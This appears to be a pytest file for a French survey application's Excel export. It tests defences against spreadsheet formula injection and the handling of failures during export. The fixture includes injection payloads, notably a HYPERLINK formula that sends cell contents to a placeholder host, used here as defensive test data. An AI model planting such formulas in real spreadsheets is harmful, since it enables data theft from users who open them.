"""Excel export: hostile text never becomes a formula nor breaks the file; failures never leave a bad file."""

from __future__ import annotations

import gc
import sys
import tempfile

import pytest

from survey_app.core.export import ExportCancelled, ExportError, ExportOptions, export_workbook
from survey_app.core.export import sheets, workbook
from tests.conftest import form_from_md
from tests.core.export_helpers import add_interview, as_dicts, read_back, small_store, zip_text

FORM = """
| survey |
|        | type | name        | label       |
|        | text | commentaire | Commentaire |
| settings |
|          | form_id | version |
|          | libre   | 1       |
"""
HOSTILE = {
    "R1": '=HYPERLINK("http://exemple.invalid/?x="&A1,"Cliquez")',
    "R2": "+1",
    "R3": "-2",
    "R4": "@SUM(A1:A3)",
    "R5": "avant\x0baprès\x00",
    "R6": "#N/A",
    "R7": "\t=1+1",
    "R8": "x" * 40_000,
    "R9": "seul \ud800 demi-caractère, \uffff non-caractère",  # a damaged or hostile answer document
}


@pytest.fixture()
def hostile_store(tmp_path):
    form = form_from_md(FORM, tmp_path)
    store = small_store(tmp_path / "s.db", [(ref, "=Tour", None, 1, "=1") for ref in HOSTILE])
    ids = {ref: add_interview(store, form, ref, {"commentaire": text}, surveyor="=Enquêteur") for ref, text in HOSTILE.items()}
    yield store, form, ids
    store.close()


def test_hostile_text_round_trips_as_text_and_the_file_holds_no_formula(hostile_store, tmp_path):
    store, form, ids = hostile_store
    out = tmp_path / "hostile.xlsx"
    report = export_workbook(store, form, out)
    assert "<f>" not in zip_text(out) and "<f " not in zip_text(out)
    rows = {r["_entretien"]: r for r in as_dicts(read_back(out)["Entretiens"])}
    for ref in ("R1", "R2", "R3", "R4", "R6", "R7"):
        assert rows[ids[ref]]["commentaire"] == HOSTILE[ref]
    assert rows[ids["R5"]]["commentaire"] == "avantaprès"  # control characters removed, not the export
    assert rows[ids["R9"]]["commentaire"] == "seul \ufffd demi-caractère,  non-caractère"  # U+FFFF: illegal in XML
    long = rows[ids["R8"]]["commentaire"]
    assert len(long) == 32_767 and long.startswith("xxx") and long.endswith("[texte tronqué : Excel limite une cellule à 32 767 caractères]")
    assert report.truncated == 1
    assert rows[ids["R1"]]["_batiment"] == "=Tour" and rows[ids["R1"]]["_porte"] == "=1"
    assert rows[ids["R1"]]["_enqueteur"] == "=Enquêteur"
    about = dict((r[0], r[1]) for r in read_back(out)["À propos"][1:])
    assert "Entretiens!commentaire ligne" in about["Cellules tronquées"]


def test_a_failure_mid_export_leaves_the_previous_file_intact_and_no_leftover(hostile_store, tmp_path, monkeypatch,
                                                                              capfd):  # fmt: skip
    store, form, _ = hostile_store
    out = tmp_path / "export.xlsx"
    export_workbook(store, form, out)
    scratch = tmp_path / "scratch"
    scratch.mkdir()
    complaints = []
    monkeypatch.setattr(sys, "unraisablehook", complaints.append)  # what Python prints as « Exception ignored »
    monkeypatch.setattr(tempfile, "tempdir", str(scratch))  # where openpyxl streams each sheet
    before = out.read_bytes()
    calls = {"n": 0}
    original = sheets.SheetWriter.append

    def failing(self, row):
        calls["n"] += 1
        if calls["n"] == 5:
            raise OSError(28, "No space left on device")
        original(self, row)

    init = sheets.SheetWriter.__init__

    def streaming_at_once(self, *args, **kwargs):
        init(self, *args, **{**kwargs, "sample": 1})  # rows reach openpyxl (and its scratch files) at once

    monkeypatch.setattr(sheets.SheetWriter, "__init__", streaming_at_once)
    monkeypatch.setattr(sheets.SheetWriter, "append", failing)
    with pytest.raises(ExportError, match="Disque plein"):
        export_workbook(store, form, out)
    monkeypatch.setattr(sheets.SheetWriter, "append", original)
    monkeypatch.setattr(sheets.SheetWriter, "__init__", init)
    gc.collect()
    assert out.read_bytes() == before
    assert list(scratch.iterdir()) == []  # openpyxl's per-sheet scratch files removed
    assert complaints == [] and capfd.readouterr().err == ""  # its half-written streams closed quietly
    assert sorted(p.name for p in tmp_path.iterdir() if p.suffix != ".db" and "-wal" not in p.name and "-shm" not in p.name) \
        == ["export.xlsx", "form.md", "scratch"]  # fmt: skip


def test_cancelling_writes_nothing(hostile_store, tmp_path):
    store, form, _ = hostile_store
    out = tmp_path / "annule.xlsx"
    with pytest.raises(ExportCancelled) as raised:
        export_workbook(store, form, out, cancelled=lambda: True)
    assert "aucun fichier" in raised.value.message
    assert not out.exists() and not [p for p in tmp_path.iterdir() if p.name.endswith(".part")]


def test_progress_goes_up_to_the_total(hostile_store, tmp_path):
    store, form, _ = hostile_store
    seen = []
    export_workbook(store, form, tmp_path / "p.xlsx", progress=lambda done, total: seen.append((done, total)))
    assert seen[0][0] == 0 and seen[-1][0] == seen[-1][1] > 0
    assert [d for d, _ in seen] == sorted(d for d, _ in seen)


@pytest.mark.parametrize(
    ("name", "message"),
    [("absent/sortie.xlsx", "n'existe pas"), ("sortie.csv", "extension .xlsx"), ("dossier.xlsx", "est un dossier")],
)
def test_bad_destinations_get_a_french_message(hostile_store, tmp_path, name, message):
    store, form, _ = hostile_store
    (tmp_path / "dossier.xlsx").mkdir()
    with pytest.raises(ExportError, match=message):
        export_workbook(store, form, tmp_path / name)


def test_a_target_open_in_excel_is_reported_with_another_name_to_use(hostile_store, tmp_path, monkeypatch):
    store, form, _ = hostile_store
    out = tmp_path / "export.xlsx"
    out.write_bytes(b"ancien classeur")
    (tmp_path / "export (2).xlsx").write_bytes(b"autre")

    def locked(src, dst):  # what Windows does while Excel holds the file open
        raise PermissionError(13, "Permission denied", str(dst))

    monkeypatch.setattr(workbook.os, "replace", locked)
    with pytest.raises(ExportError) as raised:
        export_workbook(store, form, out)
    assert "ouvert dans Excel" in raised.value.message and "« export (3).xlsx »" in raised.value.message
    assert out.read_bytes() == b"ancien classeur"
    assert not [p for p in tmp_path.iterdir() if p.name.endswith(".part")]


def test_a_damaged_store_and_unknown_filters_are_reported_in_french(hostile_store, tmp_path):
    store, form, _ = hostile_store
    with pytest.raises(ExportError, match="Bâtiment « Tour Z » introuvable.*=Tour"):
        export_workbook(store, form, tmp_path / "f.xlsx", ExportOptions(buildings=("Tour Z",)))
    bad = tmp_path / "abime.db"
    bad.write_bytes(b"ceci n'est pas une base SQLite" * 100)
    with pytest.raises(ExportError, match="abime.db"):
        export_workbook(bad, form, tmp_path / "g.xlsx")
    assert not (tmp_path / "g.xlsx").exists()
